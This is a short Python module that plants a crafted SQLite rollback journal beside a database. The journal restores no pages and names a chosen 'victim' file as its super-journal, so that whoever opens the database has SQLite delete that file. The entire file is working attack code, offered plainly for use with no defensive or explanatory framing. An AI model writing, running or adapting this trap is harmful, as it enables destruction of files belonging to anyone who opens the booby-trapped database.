"""A journal beside an SQLite database that makes whoever opens the database delete a file."""

from __future__ import annotations

import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")  # of a journal that SQLite plays back
LOCK_BYTE = 0x40000000


def plant(database: Path, victim: Path) -> Path:
    """Write the journal: it restores no page, and names the victim as the super-journal, which SQLite removes afterwards."""
    content = database.read_bytes()
    page = struct.unpack(">H", content[16:18])[0] or 65536
    header = MAGIC + struct.pack(">5I", 0, 0, len(content) // page, 512, page)
    name = bytes(victim)
    end = struct.pack(">I", LOCK_BYTE // page + 1) + name + struct.pack(">2I", len(name), sum(name)) + MAGIC
    journal = database.with_name(database.name + "-journal")
    journal.write_bytes(header.ljust(512, b"\0") + end)
    return journal
